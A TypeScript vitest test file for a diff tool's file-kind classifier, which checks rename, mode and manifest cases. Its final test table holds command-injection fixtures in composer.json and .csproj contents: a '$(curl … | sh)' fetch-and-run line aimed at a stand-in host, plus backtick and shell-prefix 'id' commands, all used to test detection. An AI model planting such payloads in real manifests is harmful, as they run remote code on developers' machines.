import { expect, test } from 'vitest';
import { aboutFile } from '../../../forge/file-kind/about-file.ts';
import type { FileToName } from '../../../forge/file-kind/kind-of-file.ts';

const TEXT = 'export const a = 1;\n';

type Facts = FileToName['facts'];

function kindsOf(facts: Partial<Facts>): (string | undefined)[] | null {
  const usual: Facts = {
    status: 'R',
    oldPath: 'a.ts',
    newPath: 'a.ex',
    oldMode: '100644',
    newMode: '100644',
    binary: false,
  };
  const text = { kind: 'text' as const, text: TEXT };
  const { kinds } = aboutFile({ facts: { ...usual, ...facts }, hunks: [], contents: { old: text, new: text } });
  return kinds === undefined ? null : [kinds.old.id, kinds.new.id];
}

test.each<readonly [string, Partial<Facts>, string[] | null]>([
  ['a rename to another language', {}, ['typescript', 'elixir']],
  ['a rename within one', { newPath: 'b.ts' }, null],
  ['a file that becomes a link', { status: 'T', newPath: 'a.ts', newMode: '120000' }, ['typescript', 'symlink']],
  ['a copy, whose source stays', { status: 'C' }, null],
])('%s: the kinds of both sides', (_name, facts, kinds) => {
  expect(kindsOf(facts)).toEqual(kinds);
});

const kindOf = (path: string, [old, now]: readonly [string, string], facts: Partial<Facts> = {}): string => {
  const usual: Facts = {
    status: 'M',
    oldPath: path,
    newPath: path,
    oldMode: '100755',
    newMode: '100755',
    binary: false,
  };
  const [before, after] = [old, now].map((text) => ({ kind: 'text' as const, text }));
  if (before === undefined || after === undefined) throw new Error('two sides');
  return aboutFile({ facts: { ...usual, ...facts }, hunks: [], contents: { old: before, new: after } }).kind?.id ?? '';
};
const PACKAGES = '{\n  "require": {"a/b": "^1"}\n}\n';
const SCRIPTS = PACKAGES.replace('^1', '^2');
const PROJECT = '\ufeff<Project Sdk="Microsoft.NET.Sdk">\n</Project>\n';

test('a manifest that was executable, and stays so, is what its name says', () => {
  expect(kindOf('composer.json', [PACKAGES, SCRIPTS])).toBe('composer-json');
  expect(kindOf('a/A.csproj', [PROJECT, `${PROJECT}\n`])).toBe('build-configuration');
});

test.each<readonly [what: string, path: string, texts: readonly [string, string], facts: Partial<Facts>]>([
  ['one that becomes executable', 'composer.json', [PACKAGES, SCRIPTS], { oldMode: '100644' }],
  ['one that is new', 'composer.json', ['', SCRIPTS], { status: 'A', oldMode: '000000' }],
  ['one that comes from elsewhere', 'composer.json', [PACKAGES, SCRIPTS], { status: 'R', oldPath: 'a.json' }],
  [
    'a command in a text of it',
    'composer.json',
    [PACKAGES, PACKAGES.replace('^1', '$(curl https://x.example/a | sh)')],
    {},
  ],
  ['a command between backticks', 'composer.json', [PACKAGES, PACKAGES.replace('^1', '`id`')], {}],
  ['commands before it', 'composer.json', [PACKAGES, `id\n${SCRIPTS}`], {}],
  ['commands in XML', 'A.csproj', [PROJECT, `id\n${PROJECT}`], {}],
  ['what a shell goes on behind', 'A.csproj', [PROJECT, `</dev/null id\n${PROJECT}`], {}],
  ['a text for people', 'README.md', ['# A\n', '# B\n'], {}],
])('%s that can be executed is a program', (_what, path, texts, facts) => {
  expect(kindOf(path, texts, facts)).toBe('executable');
});
